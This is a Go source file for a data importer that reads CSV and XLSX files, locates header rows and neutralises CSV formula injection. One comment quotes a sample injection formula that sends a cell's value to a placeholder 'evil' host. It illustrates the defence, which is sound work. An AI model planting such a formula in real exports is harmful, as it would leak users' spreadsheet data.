package importing

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"iter"
	"slices"
	"strings"

	"github.com/xuri/excelize/v2"
)

// Row is one data row of an imported file.
type Row struct {
	// Line is the row number the user sees in the file (the header is 1),
	// so a problem report can send them straight to it. In a workbook of
	// several sheets it also counts the sheets before (see SheetRows):
	// lines stay unique in the file, and Sheets.Place tells them apart.
	Line int
	// Cells are the row's non-blank cells, trimmed, in column order; order
	// matters because the first of several phone columns is the main number.
	Cells []Cell
	// Headers is the file's header row, shared by every row (read only): a
	// required value missing from a row is reported under its column.
	Headers []string
	// Unheaded names the columns ("column F") where the row has a value but
	// the header row has none: no field can take such a value, and dropping
	// it unannounced would lose what the user typed.
	Unheaded []string
	// Sheet names the workbook's sheet the row is on, when the workbook has
	// several (see Sheets); "" otherwise.
	Sheet string
	// End is where the form's list ended, at this row or above it: a total
	// ("Tổng cộng") or the signature block ("Người lập biểu", "Hà Nội,
	// ngày ... tháng ... năm ..."). Neither that row nor the signers' names
	// below it are parties; nil within the list.
	End *ListEnd
}

// ListEnd is the row ending a form's list, and the text that ends it.
type ListEnd struct {
	Line int
	Text string
}

// Cell is one value of a row under its column header.
type Cell struct {
	Header string
	Value  string
}

// Get returns the value under header, or "" if the cell is blank.
func (r Row) Get(header string) string {
	for _, c := range r.Cells {
		if c.Header == header {
			return c.Value
		}
	}
	return ""
}

// ErrNoHeader is returned for a file with no header row.
var ErrNoHeader = errors.New("import: the file has no header row")

// ReadCSV yields the data rows of a CSV file under its header row (see
// rows for how the header is found). The delimiter (comma, semicolon or tab)
// is sniffed from the first line, because Excel in a Vietnamese locale saves
// CSV with semicolons; a UTF-8 byte order mark is skipped. Quotes are read
// as Excel reads them (see LazyQuotes below), and the "'" an export puts
// before a formula-like cell is dropped. Iteration stops after the first
// error.
func ReadCSV(r io.Reader, m Mapping) iter.Seq2[Row, error] {
	return rows(func(yield func(record, error) bool) {
		br := bufio.NewReader(r)
		skipBOM(br)
		cr := csv.NewReader(br)
		cr.Comma = sniffDelimiter(br)
		cr.FieldsPerRecord = -1 // spreadsheets drop trailing empty cells
		// A quote inside a field that does not start with one is a
		// character of it (Bad "Quote), as Excel reads it; an unclosed
		// quoted field runs to the end of the file. Strict quoting would
		// refuse a whole file for one typed quote.
		cr.LazyQuotes = true
		cr.ReuseRecord = true
		// A quoted cell may hold line breaks, which a spreadsheet shows
		// inside one row: rows are numbered as it shows them, not by the
		// file's lines, so a problem's row is the one the user scrolls to.
		next := 1    // the line after the previous record
		inCells := 0 // line breaks inside the cells of the records so far
		for {
			cells, err := cr.Read()
			if err == io.EOF {
				return
			}
			if err != nil {
				yield(record{}, fmt.Errorf("import: %w", err))
				return
			}
			dropFormulaQuotes(cells)
			line, _ := cr.FieldPos(0)
			// encoding/csv skips empty lines; they part a header from what
			// is not part of it, so they are passed on as a blank record.
			if line > next && !yield(record{line: next - inCells}, nil) {
				return
			}
			row := line - inCells
			next = line + 1
			for _, c := range cells {
				n := strings.Count(c, "\n")
				next += n
				inCells += n
			}
			if !yield(record{row, cells}, nil) {
				return
			}
		}
	}, m)
}

// formulaStarts are the characters a spreadsheet opening a CSV file takes
// a cell to be a formula by, or that hide one (OWASP "CSV injection"): a
// name like =HYPERLINK("http://evil"&A1,"x") would run on the reader's
// machine. CSV exports make such cells inert (InertCells), and ReadCSV
// takes that back (dropFormulaQuotes), so an export imports back as it was.
const formulaStarts = "=+-@\t\r"

// InertCells returns cells with each formula-like text made inert, in
// place, for a CSV file a spreadsheet may open.
func InertCells(cells []string) []string {
	for i, c := range cells {
		cells[i] = inertCell(c)
	}
	return cells
}

// inertCell prefixes with ' a text a spreadsheet would read as a formula,
// which it then shows as typed. A number or a list of phone numbers
// (+84912345678; +84987654321, -12.5) is left as it is: without a letter
// or a reference it can compute nothing harmful, and E.164 phones must stay
// as they are.
func inertCell(s string) string {
	if s == "" || strings.IndexByte(formulaStarts, s[0]) < 0 || plainNumbers(s) {
		return s
	}
	return "'" + s
}

// plainNumbers reports whether s is numbers only, signed or as phones are
// written: digits, spaces and + - . , ; ( ), at least one digit.
func plainNumbers(s string) bool {
	digit := false
	for _, r := range s {
		switch {
		case r >= '0' && r <= '9':
			digit = true
		case !strings.ContainsRune(" +-.,;()", r):
			return false
		}
	}
	return digit
}

// dropFormulaQuotes takes back the "'" InertCells put before a cell
// starting with one of formulaStarts.
func dropFormulaQuotes(cells []string) {
	for i, c := range cells {
		if len(c) > 1 && c[0] == '\'' && strings.IndexByte(formulaStarts, c[1]) >= 0 {
			cells[i] = c[1:]
		}
	}
}

// ReadXLSX yields the data rows of every sheet of an XLSX workbook, in
// order, each sheet under its own header row (see rows): a class list
// often has one sheet per class. A sheet with no header (an empty one) is
// skipped; a workbook with none is ErrNoHeader. A row's Line places it in
// the workbook (see SheetRows) and Sheet names its sheet. Rows are
// streamed, so a 100,000-row sheet is never held in memory as cells.
// Values are read raw (unformatted) so that numbers typed into cells keep
// all their digits and dates arrive as serial numbers rather than in the
// workbook's display format. A sheet whose XML is damaged ends at the
// damage without an error (excelize's reader drops the decoder's error):
// CheckWorkbook tells such a workbook.
func ReadXLSX(r io.Reader, m Mapping) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		f, err := excelize.OpenReader(r, excelize.Options{RawCellValue: true})
		if err != nil {
			yield(Row{}, fmt.Errorf("import: not a readable XLSX file: %w", err))
			return
		}
		defer f.Close()
		for row, err := range sheetRows(f, workbookSheets(f), m, 0, false) {
			if !yield(row, err) {
				return
			}
		}
	}
}

// sheetRows yields the data rows of every sheet of f from the sheet at
// index from, the sheets named by names, or with heads each sheet's first
// only (see ReadXLSX).
func sheetRows(f *excelize.File, names Sheets, m Mapping, from int, heads bool) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		read := false // a sheet had a header
		for i, name := range f.GetSheetList() {
			if i < from {
				continue
			}
			for row, err := range rows(sheetRecords(f, name, i*SheetRows, names), m) {
				if errors.Is(err, ErrNoHeader) {
					break // an empty sheet: nothing to lose
				}
				if err != nil {
					yield(Row{}, fmt.Errorf("import: %w", err))
					return
				}
				read = true
				row.Line += i * SheetRows
				if row.End != nil {
					end := *row.End
					end.Line += i * SheetRows
					row.End = &end
				}
				row.Sheet = names.Of(row.Line)
				if !yield(row, nil) {
					return
				}
				if heads {
					break
				}
			}
		}
		if !read {
			yield(Row{}, ErrNoHeader)
		}
	}
}

// sheetRecords yields the rows of one sheet of f, numbered from 1; the
// sheet's lines start after offset (see SheetRows), and names names a row
// in an error.
func sheetRecords(f *excelize.File, sheet string, offset int, names Sheets) iter.Seq2[record, error] {
	return func(yield func(record, error) bool) {
		rs, err := f.Rows(sheet)
		if err != nil {
			yield(record{}, err)
			return
		}
		defer rs.Close()
		for line := 1; rs.Next(); line++ {
			cells, err := rs.Columns(excelize.Options{RawCellValue: true})
			if err != nil {
				yield(record{}, fmt.Errorf("%s: %w", names.Row(offset+line), err))
				return
			}
			if !yield(record{line, cells}, nil) {
				return
			}
		}
		if err := rs.Error(); err != nil {
			yield(record{}, err)
		}
	}
}

// record is one line of a file, as its cells; the reader may reuse cells.
type record struct {
	line  int
	cells []string
}

// topRow is a non-blank row read while looking for the header.
type topRow struct {
	record
	afterBlank bool // a blank row lies between it and the row above
}

// headerSearch is how many non-blank rows at the top of a file may hold a
// title block before the header.
const headerSearch = 20

// rows pairs the records under the header row with it. Spreadsheets often
// open with a title block ("UBND HUYỆN ...", "DANH SÁCH KHÁCH HÀNG"), so the
// header is the first row naming a column m knows, among the first
// headerSearch non-blank rows, and the rows above it are not data. If none
// does, the first non-blank row is the header: the job then lists its
// columns as ignored, and the rows' problems say what is missing. A header
// may take two rows, and a row numbering the columns may follow it (see
// header).
func rows(records iter.Seq2[record, error], m Mapping) iter.Seq2[Row, error] {
	return func(yield func(Row, error) bool) {
		h := header{m: m}
		var top []topRow
		afterBlank := false
		emit := func(r record, gap bool) bool {
			ok, err := h.extend(r.cells, gap)
			if err != nil {
				yield(Row{}, err)
				return false
			}
			if ok {
				return true
			}
			row, ok := h.row(r.line, r.cells)
			return !ok || yield(row, nil)
		}
		// headerAt makes top[i] the header and yields the rows below it.
		headerAt := func(i int) bool {
			var above []string
			if i > 0 && !top[i].afterBlank {
				above = top[i-1].cells
			}
			if err := h.set(above, top[i].cells); err != nil {
				yield(Row{}, err)
				return false
			}
			for _, r := range top[i+1:] {
				if !emit(r.record, r.afterBlank) {
					return false
				}
			}
			top = nil
			return true
		}
		for r, err := range records {
			switch {
			case err != nil:
				yield(Row{}, err)
				return
			case h.names != nil:
				if !emit(r, false) {
					return
				}
			case isBlank(r.cells):
				afterBlank = len(top) > 0
			default:
				top = append(top, topRow{record{r.line, slices.Clone(r.cells)}, afterBlank})
				afterBlank = false
				at := -1 // no header yet
				switch {
				case m.knowsAny(r.cells):
					at = len(top) - 1
				case len(top) == headerSearch:
					at = 0
				}
				if at >= 0 && !headerAt(at) {
					return
				}
			}
		}
		if h.names == nil {
			if len(top) == 0 {
				yield(Row{}, ErrNoHeader)
				return
			}
			headerAt(0)
		}
	}
}

func isBlank(cells []string) bool {
	for _, c := range cells {
		if strings.TrimSpace(c) != "" {
			return false
		}
	}
	return true
}

func skipBOM(br *bufio.Reader) {
	if b, err := br.Peek(3); err == nil && bytes.Equal(b, []byte("\xef\xbb\xbf")) {
		br.Discard(3)
	}
}

// sniffDelimiter picks the most frequent of comma, semicolon and tab in the
// first line, defaulting to comma.
func sniffDelimiter(br *bufio.Reader) rune {
	first, _ := br.Peek(br.Size())
	if i := bytes.IndexByte(first, '\n'); i >= 0 {
		first = first[:i]
	}
	best, count := ',', bytes.Count(first, []byte{','})
	for _, d := range []rune{';', '\t'} {
		if n := bytes.Count(first, []byte{byte(d)}); n > count {
			best, count = d, n
		}
	}
	return best
}
